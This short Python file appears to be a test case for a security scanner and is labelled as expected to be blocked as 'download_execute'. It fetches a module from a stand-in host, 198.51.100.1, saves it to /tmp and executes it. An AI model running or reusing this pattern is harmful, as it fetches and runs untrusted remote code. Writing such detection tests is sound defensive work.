# expect: BLOCKED download_execute
import importlib.util
import requests
with open("/tmp/mod.py", "w") as f:
    f.write(requests.get("http://198.51.100.1/mod.py").text)
spec = importlib.util.spec_from_file_location("mod", "/tmp/mod.py")
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
